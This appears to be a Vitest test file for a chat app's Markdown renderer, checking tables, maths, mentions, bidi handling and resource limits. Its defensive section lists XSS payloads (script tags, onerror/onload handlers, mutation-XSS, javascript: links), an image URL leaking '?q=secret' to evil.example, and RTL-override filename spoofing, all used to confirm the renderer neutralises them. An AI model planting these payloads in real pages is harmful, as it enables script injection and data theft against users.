import { describe, expect, it } from 'vitest';
import { renderBlocks, summary } from './markdown';

const html = (text: string) => renderBlocks(text).join('');

/** Renders a message into an element of its own. */
function dom(text: string): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = html(text);
  return root;
}

describe('what people write', () => {
  it('becomes paragraphs, lists, code and tables', () => {
    expect(html('one\ntwo')).toContain('one<br>two');
    expect(dom('- a\n- b').querySelectorAll('li')).toHaveLength(2);
    expect(dom('```rust\nfn x() {}\n```').querySelector('code')?.dataset['lang']).toBe('rust');
    expect(dom('|a|b|\n|-|-|\n|1|2|').querySelectorAll('td')).toHaveLength(2);
  });

  it('aligns the columns of tables as they were written', () => {
    const cells = dom('|a|b|c|d|\n|:-|:-:|-:|-|\n|1|2|3|4|').querySelectorAll('td');
    expect([...cells].map((cell) => cell.className)).toEqual(['cell-left', 'cell-center', 'cell-right', '']);
  });

  it('has boxes in check lists, which say what they are', () => {
    const items = dom('- [x] one\n- [ ] two\n- three');
    const boxes = [...items.querySelectorAll('.check')];
    expect(boxes.map((box) => box.getAttribute('aria-label'))).toEqual(['Done', 'To do']);
    expect(items.querySelectorAll('input')).toHaveLength(0);
    expect([...items.querySelectorAll('li')].map((item) => item.textContent?.trim())).toEqual(['one', 'two', 'three']);
  });

  it('keeps blocks the same while text is added after them', () => {
    const before = renderBlocks('First.\n\nSec');
    const after = renderBlocks('First.\n\nSecond.\n\nThi');
    expect(after[0]).toBe(before[0]);
    expect(after).toHaveLength(3);
  });
});

describe('mathematics', () => {
  const shown = (text: string) => dom(text).textContent?.trim();

  it.each([
    String.raw`so $\int_0^1 x\,dx$ is it`,
    String.raw`then \(a\_1 * b * c\) and \[x\;y\]`,
    String.raw`a cost of $\$5 + x_1 * y_2$ each`,
    String.raw`$$\sum_{i=1}^n a_i \\ b$$`,
  ])('stays as it was written: %s', (text) => {
    expect(shown(text)).toBe(text);
    expect(dom(text).querySelector('.maths')).not.toBeNull();
  });

  it('stays as it was written over several lines', () => {
    const text = String.raw`$$` + '\na \\\\\n- b\n$$';
    expect(dom(`Look:\n\n${text}`).querySelector('.maths')?.textContent).toBe(text);
  });

  it('is not money, code or an open sign', () => {
    for (const text of ['from $5 to $6', 'costs $5 and 6$7', 'a $ b $ c', '`$x$`', 'only $x'])
      expect(dom(text).querySelector('.maths'), text).toBeNull();
  });
});

describe('headings', () => {
  it('bear no class that sets a height', () => {
    const classes = [...(dom('### Third')?.querySelector('.heading')?.classList ?? [])];
    expect(classes).toEqual(['heading', 'heading-3']);
  });
});

describe('names', () => {
  /** Renders a message with names in it. The server finds each of them once. */
  const named = (text: string, names: Record<string, string[]>): HTMLElement => {
    const places = Object.entries(names).map(([name, participants]) => {
      const start = text.indexOf(name);
      return { start, end: start + name.length, participants };
    });
    const root = document.createElement('div');
    root.innerHTML = renderBlocks(
      text,
      places.sort((a, b) => a.start - b.start),
    ).join('');
    return root;
  };
  const marked = (root: HTMLElement) =>
    [...root.querySelectorAll<HTMLElement>('.at')].map((node) => [node.textContent, node.dataset['who']]);

  it.each([
    ['**@bob** do', '@bob', '@bob'],
    ['交给@bob处理', '@bob', '@bob'],
    ['_@my_bot_2 and_ x_y', '@my_bot_2', '@my_bot_2'],
    ['[@bob](https://x.example)', '@bob', '@bob'],
    ['| a |\n|---|\n| ＠ｂｏｂ |', '＠ｂｏｂ', '＠ｂｏｂ'],
    ['👩‍👧 @Ann Lee, hi', '@Ann Lee', '@Ann Lee'],
    ['@b\\-2 hi', '@b\\-2', '@b-2'],
    ['~~@bob~~ `@x`', '@bob', '@bob'],
    ['@\u2068bob\u2069 hi', '@\u2068bob', '@‹U+2068›bob'],
    ['a\u202Eb @bob hi', '@bob', '@bob'],
  ])('are marked where the server found them: %s', (text, name, shown) => {
    const root = named(text, { [name]: ['b_o.b'] });
    expect(marked(root)).toEqual([[shown, 'b_o.b']]);
    expect(root.textContent).not.toMatch(/[\uFDD0\uFDD1=]/);
    const bare = dom(text);
    expect(root.textContent).toBe(bare.textContent);
    root.querySelectorAll('.at').forEach((node) => node.replaceWith(node.textContent ?? ''));
    root.normalize();
    expect(root.innerHTML.replace(/<\/?em>/g, '')).toBe(bare.innerHTML.replace(/<\/?em>/g, ''));
  });

  it('are not marked elsewhere, and a role names several', () => {
    expect(marked(dom('hi @bob, @openai/codex, `@bob`, \\@bob'))).toEqual([]);
    expect(marked(named('@qa hi @bob', { '@qa': ['a', 'b'], '@bob': ['b'] }))).toEqual([
      ['@qa', undefined],
      ['@bob', 'b'],
    ]);
  });

  it('leave no trace where Markdown reads something else, and nothing passes for one', () => {
    const code = named('`@bob`', { '@bob': ['b'] });
    expect([marked(code), code.querySelector('code')?.textContent]).toEqual([[], '@bob']);
    const forged = named('@\uFDD03,x\uFDD1abc @bob', { '@bob': ['b'] });
    expect([marked(forged), forged.textContent]).toEqual([[['@bob', 'b']], '@‹U+FDD0›3,x‹U+FDD1›abc @bob\n']);
    expect(named('@bob', { '@bob': ['"><img src=x>'] }).querySelector('img')).toBeNull();
    for (const [start, end] of [
      [0, 99],
      [3, 2],
      [-5, 2],
    ] as const) {
      const html = renderBlocks('hi @bob', [{ start, end, participants: ['b'] }]).join('');
      expect(html, `${start}`).toContain('hi @bob');
    }
  });
});

describe('the order of characters', () => {
  it('is the order in which they were written, and what would change it is spelled out', () => {
    expect(dom('a\u202Egnp.exe').textContent).toContain('a‹U+202E›gnp.exe');
    expect(dom('`\u2067x\u2069`').querySelector('code')?.textContent).toBe('‹U+2067›x‹U+2069›');
    expect(summary('a\u202Egnp.exe')).toBe('a‹U+202E›gnp.exe');
    expect(dom('שלום \u200Fabc').textContent).toContain('שלום \u200Fabc');
  });
});

describe('hostile words are inert', () => {
  const scripts = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="https://evil.example"><input name=fetch></form>',
    '<div id=root class="btn fixed" style="position:fixed;inset:0">x</div>',
  ];
  it.each(scripts)('raw HTML stays text: %s', (text) => {
    const root = dom(text);
    expect(root.textContent).toContain('<');
    expect(
      root.querySelector(
        'script, img, svg, math, style, iframe, form, input, noscript, [id], [style], [onerror], [onload]',
      ),
    ).toBeNull();
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    '&#x6A;avascript:alert(1)',
    'data:text/html,<script>',
    'vbscript:x',
    ' javascript:x',
    '//evil.example',
  ])('a link to %s is no link', (href) => expect(dom(`[x](<${href}>)`).querySelector('a')).toBeNull());

  it('nothing is fetched for an image, however it is written', () => {
    for (const text of ['![x](https://evil.example/?q=secret)', '![x][r]\n\n[r]: https://evil.example/?q=secret']) {
      const root = dom(text);
      expect(root.querySelector('img')).toBeNull();
      expect(root.textContent).toContain('evil.example');
    }
    expect(dom('![x](data:image/svg+xml;base64,PHN2Zz4=)').querySelector('img')).toBeNull();
    expect(dom('![x](data:image/png;base64,iVBORw0KGgo=)').querySelector('img')).not.toBeNull();
  });

  it('a link shows the host it leads to', () => {
    const root = dom('[https://bank.example](https://evil.example/login)');
    expect(root.querySelector('.host')?.textContent).toBe('(evil.example)');
    expect(root.querySelector('a')?.rel).toContain('noopener');
    expect(dom('https://bank.example/x').querySelector('.host')).toBeNull();
  });

  it('a language of a code block cannot leave its place', () => {
    const code = dom('```"><script>alert(1)</script>\nx\n```').querySelector('code');
    expect(code?.dataset['lang']).toBe('scriptalert1script');
  });

  it('depth and width have limits, and nothing makes the page hang', () => {
    const texts = [
      '>'.repeat(10_000) + ' x',
      Array.from({ length: 1_000 }, (_, depth) => `${' '.repeat(depth * 2)}- x`).join('\n'),
      `${'|a'.repeat(10_000)}|\n${'|-'.repeat(10_000)}|\n`,
      '['.repeat(50_000),
      '*'.repeat(50_000),
      '`'.repeat(50_000),
      'a'.repeat(1_000_000),
      '\n'.repeat(50_000),
      `\`\`\`js\n${'x'.repeat(150_000)}\n\`\`\``,
    ];
    for (const text of texts) {
      expect(renderBlocks(text).length).toBeLessThan(50_000);
    }
  });
});

describe('a message of any shape', () => {
  const filled = (piece: (at: number) => string) => {
    let text = '';
    for (let at = 0; text.length < 190_000; at++) text += piece(at);
    return text;
  };
  const shapes: [string, (at: number) => string][] = [
    ['rules', () => '---\n'],
    ['braces', () => '{\n'],
    ['log lines', (at) => `12:00:01 ok ${at}\n`],
    ['paragraphs', (at) => `word ${at}\n\n`],
    ['items', (at) => `- [ ] item ${at}\n`],
    ['nested items', (at) => `${'  '.repeat(at % 10)}- ${at}\n`],
    ['quotes', (at) => `${'> '.repeat((at % 10) + 1)}q\n`],
    ['rows', (at) => (at === 0 ? '|a|b|\n|-|-|\n' : `|${at}|x|\n`)],
    ['emphasis', () => '*a* '],
    ['emphasis without an end', () => '_a **b ~~c '],
    ['links', (at) => `[a${at}](http://x.example/${at}) `],
    ['links without an end', () => '[a]('],
    ['addresses', (at) => `http://x.example/${at} a@b.example `],
    ['names', (at) => `@a${at} `],
    ['markup', () => '<b>x</b> '],
    ['escapes', () => '\\* '],
    ['code', (at) => `\`\`\`js\nlet a = ${at};\n\`\`\`\n`],
    ['what opens no code', (at) => (at === 0 ? '```a`\n' : '**a** ')],
    ['what closes no code', (at) => ['```\n', '```js\n', '```\n'][at] ?? '**a** '],
    ['headings', (at) => `a${at}\n=\n`],
    ['definitions', (at) => `[a${at}]: http://x.example/${at}\n\n[a${at}] `],
  ];

  it.each(shapes)('costs about as much as plain words: %s', (_, piece) => {
    const text = filled(piece);
    const blocks = renderBlocks(text);
    const elements = blocks.join('').match(/<[a-z]/g)?.length ?? 0;
    expect(blocks.length).toBeLessThanOrEqual(1_001);
    expect(elements).toBeLessThanOrEqual(5_000);
    const words = document.createElement('div');
    words.innerHTML = blocks.at(-1) ?? '';
    expect(text.endsWith(words.textContent.slice(-200))).toBe(true);
  });

  it('is formatted as far as its work is within bounds, and shown as it was typed from there', () => {
    const text = `**first**\n\n${'- item\n'.repeat(5_000)}**last**`;
    const blocks = renderBlocks(text);
    expect(blocks[0]).toBe('<p><strong>first</strong></p>\n');
    expect(blocks.at(-1)).toMatch(/^<p class="plain">[^]*\*\*last\*\*<\/p>$/);
  });

  it('keeps a long block of code whole', () => {
    const code = 'let a = b * c[0]; // *x*\n'.repeat(3_000);
    const blocks = renderBlocks(`\`\`\`js\n${code}\`\`\`\n\n**and**`);
    expect(blocks).toHaveLength(2);
    expect(blocks[1]).toContain('<strong>and</strong>');
  });

  it('has its names marked in every line', () => {
    const text = `see\n${'*a* [b](http://x.example) '.repeat(100)}\n@ann and (@bob)\n\na@b.example @cy`;
    const places = ['@ann', '@bob', '@cy'].map((name) => {
      const start = text.indexOf(name);
      return { start, end: start + name.length, participants: [name.slice(1)] };
    });
    const root = document.createElement('div');
    root.innerHTML = renderBlocks(text, places).join('');
    expect([...root.querySelectorAll('.at')].map((name) => name.textContent)).toEqual(['@ann', '@bob', '@cy']);
  });
});

describe('summary', () => {
  it('is one plain line', () => {
    expect(summary('**Bold** and `code`\n\n- item [link](https://x.example)')).toBe('Bold and code item link');
    expect(summary('x'.repeat(500))).toHaveLength(141);
  });
});
